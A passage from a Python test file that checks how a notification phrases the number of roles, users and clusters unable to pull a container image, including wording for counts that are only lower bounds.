    assert " 9 roles or users in 7 clusters " in body(_of(reach=replace(reach, account_count=1)), room=ROOM)


def test_clusters_that_are_more_than_were_counted_are_said_to_be_more() -> None:
    many = replace(NOTICE.reach, clusters=("prod", "stage"), cluster_count=20, more=("clusters",))
    text = body(_of(reach=many), room=ROOM)

    assert " in more than 20 clusters cannot pull the image payments/api.\n" in text
    assert "\n  Clusters: prod, stage and at least 18 more\n" in text
    # One that is known is not the only one if others were not counted.
    text = body(_of(reach=replace(many, clusters=("prod",), cluster_count=1)), room=ROOM)
    assert " in more than 1 clusters cannot pull" in text
